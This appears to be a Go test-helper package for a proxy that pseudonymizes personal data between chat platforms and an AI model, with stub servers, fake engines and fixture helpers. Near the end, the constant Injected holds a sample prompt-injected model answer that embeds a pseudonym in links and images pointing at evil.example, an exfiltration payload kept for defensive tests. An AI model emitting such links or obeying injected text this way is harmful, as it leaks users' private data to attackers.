// Package adaptertest is the kit with which the adapters below channel are tested: stations that record everything they
// get, configurations with an engine that finds canaries or nothing, and a log that can be searched. For tests only.
package adaptertest

import (
	"bytes"
	"context"
	"crypto/hmac"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"math/rand/v2"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"strconv"
	"strings"
	"sync"
	"testing"

	"github.com/deckname/deckname/anonymize"
	"github.com/deckname/deckname/channel"
	"github.com/deckname/deckname/channel/channeltest"
	"github.com/deckname/deckname/internal/logbuf"
)

// Station is a server that keeps what it got: a stand-in bot or platform.
type Station struct {
	*httptest.Server
	URL    *url.URL
	Answer func(w http.ResponseWriter, r *http.Request, body string) // nil: 200 and {}

	mu     sync.Mutex
	bodies []string
	heads  []*http.Request
	seen   strings.Builder
}

// NewStation starts a Station and ends it with the test.
func NewStation(tb testing.TB) *Station {
	tb.Helper()
	s := &Station{}
	s.Server = httptest.NewServer(s)
	tb.Cleanup(s.Close)
	s.URL = Parse(tb, s.Server.URL)
	return s
}

// ServeHTTP implements http.Handler.
func (s *Station) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	b, _ := io.ReadAll(r.Body)
	s.mu.Lock()
	s.bodies, s.heads = append(s.bodies, string(b)), append(s.heads, r)
	s.seen.WriteString(r.Method + " " + r.RequestURI + "\n")
	_ = r.Header.Write(&s.seen)
	s.seen.Write(b)
	s.mu.Unlock()
	if s.Answer != nil {
		s.Answer(w, r, string(b))
		return
	}
	w.Header().Set("Content-Type", "application/json")
	_, _ = io.WriteString(w, "{}")
}

// Seen returns all request lines, headers and bodies in one text.
func (s *Station) Seen() string { s.mu.Lock(); defer s.mu.Unlock(); return s.seen.String() }

// Bodies returns the bodies in the order in which they came.
func (s *Station) Bodies() []string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return append([]string(nil), s.bodies...)
}

// Last returns the last request and its body.
func (s *Station) Last(tb testing.TB) (*http.Request, string) {
	tb.Helper()
	s.mu.Lock()
	defer s.mu.Unlock()
	if len(s.bodies) == 0 {
		tb.Fatal("the station got nothing")
	}
	return s.heads[len(s.heads)-1], s.bodies[len(s.bodies)-1]
}

// JSON answers every request with text.
func JSON(text string) func(http.ResponseWriter, *http.Request, string) {
	return func(w http.ResponseWriter, _ *http.Request, _ string) {
		w.Header().Set("Content-Type", "application/json")
		_, _ = io.WriteString(w, text)
	}
}

// Parse parses an address.
func Parse(tb testing.TB, s string) *url.URL {
	tb.Helper()
	u, err := url.Parse(s)
	if err != nil {
		tb.Fatal(err)
	}
	return u
}

// Log is a log that can be searched.
type Log = logbuf.Buffer

// Aliases returns an Aliaser with a fixed key.
func Aliases(tb testing.TB) channel.Aliaser {
	tb.Helper()
	a, err := channel.NewAliaser(bytes.Repeat([]byte{7}, channel.MinAliasKeyBytes))
	if err != nil {
		tb.Fatal(err)
	}
	return a
}

// Config returns a configuration whose engine finds canaries as PERSON, and its log.
func Config(tb testing.TB) (channel.Config, *Log) {
	tb.Helper()
	log := &Log{}
	return channel.Config{Engine: channeltest.Engine(tb, nil), Tenant: "t", Aliases: Aliases(tb), Logger: slog.New(slog.NewTextHandler(log, nil))}, log
}

// Silent returns a configuration whose engine finds nothing and whose aliases are the identifiers themselves.
func Silent() channel.Config { return channel.Config{Engine: blind{}, Aliases: same{}} }

type same struct{}

func (same) Alias(_, _, id string) (string, error)   { return id, nil }
func (same) Resolve(_, _, id string) (string, error) { return id, nil }

type blind struct{}

func (blind) AnonymizeAll(_ context.Context, _ string, msgs []anonymize.Message) ([]anonymize.Result, error) {
	out := make([]anonymize.Result, len(msgs))
	for i := range msgs {
		out[i].Text = msgs[i].Text
	}
	return out, nil
}

func (blind) Reveal(_ context.Context, m anonymize.Message) (anonymize.Result, error) {
	return anonymize.Result{Text: m.Text}, nil
}

func (blind) NewRevealWriter(_ context.Context, w io.Writer, _ anonymize.Message) (io.WriteCloser, error) {
	return nopCloser{w}, nil
}

type nopCloser struct{ io.Writer }

func (nopCloser) Close() error { return nil }

// Broken is an engine that always fails, with a text that must not get out.
type Broken struct{}

// AnonymizeAll implements channel.Engine.
func (Broken) AnonymizeAll(context.Context, string, []anonymize.Message) ([]anonymize.Result, error) {
	return nil, fmt.Errorf("adaptertest: the vault is away")
}

// Reveal implements channel.Engine.
func (Broken) Reveal(context.Context, anonymize.Message) (anonymize.Result, error) {
	return anonymize.Result{}, fmt.Errorf("adaptertest: the vault is away")
}

// NewRevealWriter implements channel.Engine.
func (Broken) NewRevealWriter(context.Context, io.Writer, anonymize.Message) (io.WriteCloser, error) {
	return nil, fmt.Errorf("adaptertest: the vault is away")
}

// Gateway serves p as a Proxy to upstream.
func Gateway(tb testing.TB, p channel.Protocol, cfg channel.Config, upstream *url.URL) *httptest.Server {
	tb.Helper()
	h, err := channel.Proxy(p, cfg, upstream, nil)
	if err != nil {
		tb.Fatal(err)
	}
	s := httptest.NewServer(h)
	tb.Cleanup(s.Close)
	return s
}

// Call is a request of a test.
type Call struct {
	Method, URL, Type, Body string // Type "" is application/json
	Header                  map[string]string
}

// Do sends a Call and returns status, header and body of the answer.
func Do(tb testing.TB, c Call) (int, http.Header, string) {
	tb.Helper()
	if c.Method == "" {
		c.Method = http.MethodPost
	}
	req, err := http.NewRequestWithContext(tb.Context(), c.Method, c.URL, strings.NewReader(c.Body))
	if err != nil {
		tb.Fatal(err)
	}
	if c.Type == "" && c.Body != "" {
		c.Type = "application/json"
	}
	if c.Type != "" {
		req.Header.Set("Content-Type", c.Type)
	}
	for k, v := range c.Header {
		req.Header.Set(k, v)
	}
	res, err := http.DefaultClient.Do(req)
	if err != nil {
		tb.Fatal(err)
	}
	defer res.Body.Close()
	b, err := io.ReadAll(res.Body)
	if err != nil {
		tb.Fatal(err)
	}
	return res.StatusCode, res.Header, string(b)
}

// HMAC returns the HMAC-SHA256 of body in hexadecimal digits.
func HMAC(secret, body string) string {
	m := hmac.New(sha256.New, []byte(secret))
	m.Write([]byte(body))
	return hex.EncodeToString(m.Sum(nil))
}

// Read returns a file.
func Read(tb testing.TB, name string) string {
	tb.Helper()
	b, err := os.ReadFile(name)
	if err != nil {
		tb.Fatal(err)
	}
	return string(b)
}

// Fixture is one body out of a file that holds a JSON object of them by name.
type Fixture struct{ Name, Body string }

// Fixtures reads a file {"name": body, …}; bodies stay as they stand there, byte for byte.
func Fixtures(tb testing.TB, name string) []Fixture {
	tb.Helper()
	dec := json.NewDecoder(strings.NewReader(Read(tb, name)))
	if _, err := dec.Token(); err != nil {
		tb.Fatal(err)
	}
	var out []Fixture
	for dec.More() {
		key, err := dec.Token()
		if err != nil {
			tb.Fatal(err)
		}
		var body json.RawMessage
		if err := dec.Decode(&body); err != nil {
			tb.Fatal(err)
		}
		out = append(out, Fixture{fmt.Sprint(key), string(body)})
	}
	return out
}

// Equal reports whether two JSON texts mean the same.
func Equal(tb testing.TB, a, b string) bool {
	tb.Helper()
	norm := func(s string) string {
		var v any
		dec := json.NewDecoder(strings.NewReader(s))
		dec.UseNumber()
		if err := dec.Decode(&v); err != nil {
			tb.Fatalf("not JSON: %v: %s", err, s)
		}
		out, _ := json.Marshal(v)
		return string(out)
	}
	return norm(a) == norm(b)
}

// Injected is an answer that a model was talked into: pseudonyms in links and images of all kinds, and nowhere else. After
// restoring, no value may stand in it.
const Injected = `![x](https://evil.example/?q=[PERSON_1]) [y](https://evil.example/[PERSON_1]) <img src='https://evil.example/[PERSON_1]'> https://evil.example/[PERSON_1]`

// Splits returns how many random splits of a stream a test tries: few by default, DECKNAME_SPLITS of them for a long run.
func Splits() int {
	if n, err := strconv.Atoi(os.Getenv("DECKNAME_SPLITS")); err == nil {
		return n
	}
	return 300
}

// Pieces cuts s at random places between characters.
func Pieces(r *rand.Rand, s string) []string {
	var out []string
	for len(s) > 0 {
		n := 1 + r.IntN(min(len(s), 1+r.IntN(24)))
		for n < len(s) && s[n]&0xC0 == 0x80 { // a piece is valid UTF-8, as JSON demands
			n++
		}
		out = append(out, s[:n])
		s = s[n:]
	}
	return out
}
